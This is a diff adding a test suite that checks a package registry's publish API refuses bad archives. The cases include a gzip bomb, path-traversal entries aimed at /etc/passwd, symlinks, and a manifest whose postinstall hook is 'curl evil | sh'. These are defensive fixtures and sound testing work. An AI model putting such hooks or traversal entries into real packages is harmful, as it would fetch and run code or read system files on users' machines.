@@ -1,0 +1,79 @@
+// Every kind of bad archive the publish endpoint must refuse, through the HTTP API: each gets a
+// 4xx with its own stable code, and nothing is stored or visible afterwards.
+import { describe, expect, it } from "vitest";
+import { buildArchive, gzipBomb, tarEntries, validManifest, type BuildArchiveOptions } from "../helpers/archive-builder";
+import { gzipDeterministic } from "../../src/processing/pack";
+import { call, errorCode, publish, storageSnapshot } from "./helpers";
+
+const PKG = "@acme/bad";
+const base = { name: PKG, version: "1.0.0" };
+const manifest = (extra: string, fields: Partial<Record<"name" | "version" | "description" | "ori", string | null>> = {}) => {
+  const lines = validManifest(fields.name ?? PKG, fields.version ?? "1.0.0", extra).split("\n");
+  return lines
+    .filter((l) => !(fields.description === null && l.startsWith("description")) && !(fields.ori === null && l.startsWith("ori ")))
+    .join("\n");
+};
+const entry = (path: string, extra: Partial<Parameters<typeof tarEntries>[0][number]> = {}) => ({ path, data: "x", ...extra });
+
+const CASES: [string, () => Promise<Uint8Array>, number, string][] = [
+  ["gzip of plain text (not a tar)", async () => gzipDeterministic(new TextEncoder().encode("just text, not a tar archive".repeat(40))), 400, "not_tar"],
+  ["a gzip bomb", async () => gzipBomb(), 400, "compression_ratio_too_high"],
+  ["path traversal with ..", () => arch({ extraTarEntries: [entry("src/../../etc/passwd")] }), 400, "unsafe_path"],
+  ["an absolute path", () => arch({ extraTarEntries: [entry("/etc/passwd")] }), 400, "unsafe_path"],
+  ["a backslash path", () => arch({ extraTarEntries: [entry("src\\evil.ori")] }), 400, "unsafe_path"],
+  ["a ./ prefix", () => arch({ extraTarEntries: [entry("./src/x.ori")] }), 400, "unsafe_path"],
+  ["a symlink", () => arch({ extraTarEntries: [entry("src/link", { type: "2", linkname: "/etc/passwd", data: "" })] }), 400, "link_not_allowed"],
+  ["a hard link", () => arch({ extraTarEntries: [entry("src/hard", { type: "1", linkname: "src/main.ori", data: "" })] }), 400, "link_not_allowed"],
+  ["a character device", () => arch({ extraTarEntries: [entry("src/dev", { type: "3", data: "" })] }), 400, "special_file_not_allowed"],
+  ["a duplicate path", () => arch({ extraTarEntries: [entry("src/main.ori")] }), 400, "duplicate_path"],
+  ["no oripk.toml", () => arch({ omit: ["oripk.toml"] }), 400, "missing_manifest"],
+  ["no oripk.lock", () => arch({ omit: ["oripk.lock"] }), 400, "missing_lockfile"],
+  ["no CHECKSUM", () => arch({ omit: ["CHECKSUM"] }), 400, "missing_checksum"],
+  ["no src/", () => arch({ omit: ["src/main.ori"] }), 400, "missing_src"],
+  ["a CHECKSUM mismatch", () => arch({ checksumOverride: "tampered" }), 400, "checksum_malformed"],
+  ["an unparseable manifest", () => arch({ manifest: "[project\nname = " }), 400, "invalid_manifest"],
+  ["an invalid name in the manifest", () => arch({ manifest: manifest("", { name: "@Acme/Bad" }) }), 400, "invalid_name"],
+  ["version 1.0", () => arch({ manifest: manifest("", { version: "1.0" }) }), 400, "invalid_version"],
+  ["version 01.0.0", () => arch({ manifest: manifest("", { version: "01.0.0" }) }), 400, "invalid_version"],
+  ["version 1.0.0-rc.1", () => arch({ manifest: manifest("", { version: "1.0.0-rc.1" }) }), 400, "invalid_version"],
+  ["version v1.0.0", () => arch({ manifest: manifest("", { version: "v1.0.0" }) }), 400, "invalid_version"],
+  ["no description", () => arch({ manifest: manifest("", { description: null }) }), 400, "manifest_missing_field"],
+  ["no ori version", () => arch({ manifest: manifest("", { ori: null }) }), 400, "manifest_missing_field"],
+  ["a [scripts] table", () => arch({ manifest: manifest('[scripts]\npostinstall = "curl evil | sh"\n') }), 400, "manifest_has_scripts"],
+  ["a dependency range", () => arch({ manifest: manifest('[dependencies]\n"@orilib/utils" = "^2.0.1"\n') }), 400, "dependency_not_exact"],
+  ["a dependency on itself", () => arch({ manifest: manifest(`[dependencies]\n"${PKG}" = "0.9.0"\n`) }), 400, "dependency_on_self"],
+  ["an oversized description", () => arch({ manifest: manifest("").replace('description = "A test package"', `description = "${"x".repeat(5000)}"`) }), 400, "manifest_invalid_field"],
+  ["too many keywords", () => arch({ manifest: manifest("").replace('keywords = ["test-fixture"]', `keywords = [${Array.from({ length: 30 }, (_, i) => `"k${i}"`).join(", ")}]`) }), 400, "manifest_invalid_field"],
+];
+
+function arch(opts: BuildArchiveOptions): Promise<Uint8Array> {
+  return buildArchive({ ...base, ...opts });
+}
+
+describe("POST /v1/packages/:scope/:name/publish refuses bad archives", () => {
+  it.each(CASES)("%s", async (_what, make, status, code) => {
+    const before = await storageSnapshot();
+    const res = await publish(PKG, await make());
+    expect(res.status).toBe(status);
+    const body = (await res.json()) as { error: { code: string; message: string } };
+    expect(body.error.code).toBe(code);
+    expect(body.error.message.length).toBeGreaterThan(10);
+    expect(await storageSnapshot()).toEqual(before);
+    expect((await call(`/v1/packages/${PKG}/versions`)).status).toBe(404);
+  });
+
+  it("refuses a CHECKSUM whose digest does not match a file", async () => {
+    const good = await arch({});
+    expect(good.length).toBeGreaterThan(0);
+    const wrong = "sha256:" + "0".repeat(64);
+    const res = await publish(PKG, await arch({ checksumOverride: `${wrong}  README.md\n${wrong}  oripk.lock\n${wrong}  oripk.toml\n${wrong}  src/main.ori\n` }));
+    expect(res.status).toBe(400);
+    expect(await errorCode(res)).toBe("checksum_mismatch");
+  });
+
+  it("refuses a CHECKSUM that leaves a file out", async () => {
+    const res = await publish(PKG, await arch({ checksumOverride: "" }));
+    expect(res.status).toBe(400);
+    expect(await errorCode(res)).toMatch(/^checksum_(missing_entry|malformed)$/);
+  });
+});
